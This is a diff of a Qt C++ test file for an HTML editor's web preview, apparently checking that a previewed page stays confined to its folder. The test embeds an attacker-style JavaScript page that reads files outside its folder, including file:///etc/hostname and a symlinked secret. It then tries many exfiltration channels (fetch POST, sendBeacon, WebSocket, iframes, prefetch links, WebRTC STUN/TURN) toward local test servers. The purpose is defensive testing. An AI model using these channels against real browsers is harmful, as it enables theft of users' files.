@@ -29,14 +29,15 @@ struct Fixture : WindowFixture
         QCOMPARE(tabs->currentIndex(), index);
     }
     QWebEngineView *browser() { return window.findChild<QWebEngineView *>(u"browser"_s); }
-    // Saves a page titled "esperando" that runs script as path, and shows its preview.
+    // Saves a page titled "esperando" that runs script as path; its preview shows it at once.
     void preview(const QString &path, const QString &script)
     {
         page().setText(QStringLiteral("<html><head><title>esperando</title></head><body><script>") +
                        script + QStringLiteral("</script></body></html>"));
         trigger(QStringLiteral("mn_guardar"), path);
         clickTab(1);
-        QVERIFY(browser());
+        QVERIFY(prompts.notices.isEmpty());
+        QCOMPARE(browser()->url(), QUrl::fromLocalFile(path));
     }
 };
 
@@ -47,79 +48,37 @@ class TestPreview : public QObject
     Q_OBJECT
 
 private slots:
-    void tabClick_data()
+    // Only a page saved as it is shows; otherwise the user is told, and the tab stays where the
+    // user put it, empty.
+    void saveFirst_data()
     {
         QTest::addColumn<bool>("saved");
-        QTest::addColumn<bool>("edited");
-        QTest::newRow("right after start-up") << false << false;
-        QTest::newRow("after Save") << true << false;
-        QTest::newRow("an edit after Save") << true << true;
+        QTest::newRow("right after start-up") << false;
+        QTest::newRow("an edit after Save") << true;
     }
 
-    void tabClick()
+    void saveFirst()
     {
         QFETCH(bool, saved);
-        QFETCH(bool, edited);
         QTemporaryDir dir;
         Fixture f;
-        f.page().setText(
-            QStringLiteral("<html><head><title>Pagina de prueba</title></head></html>"));
-        if (saved)
-            f.trigger(QStringLiteral("mn_guardar"), dir.filePath(QStringLiteral("uno.html")));
-        if (edited) {
+        if (saved) {
             // The preview tab is visited and left once with the file saved.
-            f.clickTab(1);
+            f.preview(dir.filePath(QStringLiteral("uno.html")), QString());
             f.clickTab(0);
             f.view.setFocus();
             QTest::keyClick(&f.view, Qt::Key_X);
         }
-        f.prompts.notices.clear();
-        f.clickTab(1); // and the tab stays where the user put it
-        const bool shown = saved && !edited;
-        QCOMPARE(f.prompts.notices,
-                 shown ? QStringList() : QStringList(PreviewController::saveFirstToPreview()));
-        QVERIFY(f.browser() || !shown);
+        f.clickTab(1);
+        QCOMPARE(f.prompts.notices, QStringList(PreviewController::saveFirstToPreview()));
         if (f.browser())
-            QTRY_COMPARE(f.browser()->url(),
-                         shown ? QUrl::fromLocalFile(dir.filePath(QStringLiteral("uno.html")))
-                               : QUrl(QStringLiteral("about:blank")));
-        if (shown)
-            QTRY_COMPARE(f.browser()->title(), QStringLiteral("Pagina de prueba"));
+            QTRY_COMPARE(f.browser()->url(), QUrl(QStringLiteral("about:blank")));
     }
 
-    // The page reads what is in its folder and below, and nothing else; window.open used to
-    // hand back a window kept out of sight, still running the page.
-    void pageStaysInsideItsFolder()
-    {
-        QTemporaryDir dir;
-        writeBytes(dir.filePath(QStringLiteral("secreto.txt")), "SECRETO");
-        writeBytes(dir.filePath(QStringLiteral("sitio/dentro.txt")), "DENTRO");
-        QVERIFY(QFile::link(dir.filePath(QStringLiteral("secreto.txt")),
-                            dir.filePath(QStringLiteral("sitio/enlace.txt"))));
-        Fixture f;
-        f.preview(dir.filePath(QStringLiteral("sitio/pagina.html")), QStringLiteral(R"(
-var results = [];
-function tell(way, what) {
-  results.push(way + ':' + what); if (results.length == 5) document.title = results.sort().join(); }
-function read(way, address) {
-  var x = new XMLHttpRequest();
-  x.onload = () => tell(way, x.responseText); x.onerror = () => tell(way, 'rechazado');
-  try { x.open('GET', address); x.send(); } catch (e) { tell(way, 'rechazado'); } }
-read('beside', 'dentro.txt'); read('above', '../secreto.txt');
-read('absolute', 'file:///etc/hostname'); read('link', 'enlace.txt');
-var w = window.open('../secreto.txt');
-if (!w) tell('window', 'rechazado'); else w.addEventListener('load', () => {
-  try { tell('window', w.document.body.innerText.trim()); } catch (e) { tell('window', 'rechazado'); } });
-)"));
-        QTRY_COMPARE_WITH_TIMEOUT(f.browser()->title(),
-                                  QStringLiteral("above:rechazado,absolute:rechazado,beside:DENTRO,"
-                                                 "link:rechazado,window:rechazado"),
-                                  15000);
-    }
-
-    // An attacker's page reads the file beside it and tries every way out to servers on this
-    // machine; the servers must see no connection at all. The browser's own guard on remote
-    // addresses is turned off: it let WebSocket through, and the seal must not depend on it.
+    // An attacker's page reads what it can, in its folder and out of it, and tries every way
+    // out to servers on this machine; the servers must see no connection at all. The browser's own
+    // guard on remote addresses is turned off: it let WebSocket through, and the seal must not
+    // depend on it.
     void nothingLeavesTheMachine()
     {
         QTcpServer web;
@@ -127,27 +86,40 @@ if (!w) tell('window', 'rechazado'); else w.addEventListener('load', () => {
         QSignalSpy webCalls(&web, &QTcpServer::newConnection);
         QUdpSocket datagrams;
         QVERIFY(datagrams.bind(QHostAddress::LocalHost));
-        // Once every way has settled, the page navigates away from itself, the last way out.
+        // The reads come back in the title; once all is settled, the page navigates away from
+        // itself, the last way out. window.open used to hand back a window kept out of sight,
+        // still running the page.
         const QString attack = QStringLiteral(R"(
-var H = 'http://127.0.0.1:%1/', s = '', left = 5;
-function settled() { if (--left == 0) location.href = H + 'location?d=' + s; }
-fetch('secreto.txt').then(r => r.text()).then(t => {
-  s = encodeURIComponent(t);
+var H = 'http://127.0.0.1:%1/', s = '', left = 10, results = [];
+function settled() {
+  if (--left > 0) return;
+  document.title = results.sort().join(); location.href = H + 'location?d=' + s;
+}
+function tell(way, what) { results.push(way + ':' + what); settled(); }
+function read(way, address) {
+  var x = new XMLHttpRequest();
+  x.onload = () => tell(way, x.responseText); x.onerror = () => tell(way, 'rechazado');
+  try { x.open('GET', address); x.send(); } catch (e) { tell(way, 'rechazado'); } }
+function add(into, tag, fields) {
+  return into.appendChild(Object.assign(document.createElement(tag), fields)); }
+read('above', '../secreto.txt'); read('absolute', 'file:///etc/hostname'); read('link', 'enlace.txt');
+var o = window.open('../secreto.txt');
+if (!o) tell('window', 'rechazado'); else o.addEventListener('load', () => {
+  try { tell('window', o.document.body.innerText.trim()); } catch (e) { tell('window', 'rechazado'); } });
+fetch('dentro.txt').then(r => r.text()).then(t => {
+  tell('beside', t); s = encodeURIComponent(t);
   fetch(H + 'fetch', {method: 'POST', body: t}).finally(settled);
-  var f = document.createElement('iframe'); f.onload = settled; f.src = H + 'iframe?d=' + s;
-  document.body.appendChild(f);
+  add(document.body, 'iframe', {onload: settled, src: H + 'iframe?d=' + s});
   navigator.sendBeacon(H + 'beacon', t);
   var w = new WebSocket(H.replace('http', 'ws') + 'websocket?d=' + s);
   w.onopen = w.onerror = settled;
-  var l = document.createElement('link'); l.rel = 'prefetch'; l.href = H + 'prefetch?d=' + s;
-  l.onload = l.onerror = settled; document.head.appendChild(l);
-  for (var rel of ['preconnect', 'dns-prefetch', 'icon']) {
-    var p = document.createElement('link'); p.rel = rel; p.href = H + rel; document.head.appendChild(p);
-  }
+  add(document.head, 'link', {rel: 'prefetch', href: H + 'prefetch?d=' + s, onload: settled,
+                              onerror: settled});
+  for (var rel of ['preconnect', 'dns-prefetch', 'icon'])
+    add(document.head, 'link', {rel: rel, href: H + rel});
   // Peer connections reach their servers without any request the browser could refuse.
   // A frame of its own is a fresh window, with every constructor in it.
-  var blank = document.createElement('iframe'); document.body.appendChild(blank);
-  var Peer = blank.contentWindow.RTCPeerConnection || window.RTCPeerConnection;
+  var Peer = add(document.body, 'iframe', {}).contentWindow.RTCPeerConnection || RTCPeerConnection;
   if (!Peer) { settled(); } else {
     var pc = new Peer({iceServers: [{urls: 'stun:127.0.0.1:%2'},
         {urls: 'turn:127.0.0.1:%1?transport=tcp', username: 'u', credential: s}]});
@@ -161,7 +133,10 @@ fetch('secreto.txt').then(r => r.text()).then(t => {
                                    .arg(datagrams.localPort());
 
         QTemporaryDir dir;
-        writeBytes(dir.filePath(QStringLiteral("sitio/secreto.txt")), "SECRETO");
+        writeBytes(dir.filePath(QStringLiteral("secreto.txt")), "SECRETO");
+        writeBytes(dir.filePath(QStringLiteral("sitio/dentro.txt")), "DENTRO");
+        QVERIFY(QFile::link(dir.filePath(QStringLiteral("secreto.txt")),
+                            dir.filePath(QStringLiteral("sitio/enlace.txt"))));
         Fixture f;
         // The browser is made on the first visit to the tab; the second one loads the page again.
         f.preview(dir.filePath(QStringLiteral("sitio/ataque.html")), attack);
@@ -170,6 +145,7 @@ fetch('secreto.txt').then(r => r.text()).then(t => {
         QSignalSpy refused(child<FolderRequestInterceptor>(&f.window, QString()),
                            &FolderRequestInterceptor::refused);
         QSignalSpy loads(f.browser(), &QWebEngineView::loadFinished);
+        QSignalSpy titles(f.browser(), &QWebEngineView::titleChanged);
         f.clickTab(0);
         f.clickTab(1);
         // Once the page has gone, every request it made has been answered or dropped.
@@ -180,6 +156,12 @@ fetch('secreto.txt').then(r => r.text()).then(t => {
         QTRY_VERIFY_WITH_TIMEOUT((!loads.isEmpty() && !loads.last().first().toBool()) || reached(),
                                  60000);
         QCOMPARE(reached(), 0);
+        QStringList seen;
+        for (const QList<QVariant> &title : titles)
+            seen.append(title.first().toString());
+        QVERIFY2(seen.contains(QStringLiteral("above:rechazado,absolute:rechazado,beside:DENTRO,"
+                                              "link:rechazado,window:rechazado")),
+                 qPrintable(seen.join(u'|')));
         // Every way out was tried, and the seal refused each one itself.
         QStringList tried;
         for (const QList<QVariant> &address : refused)
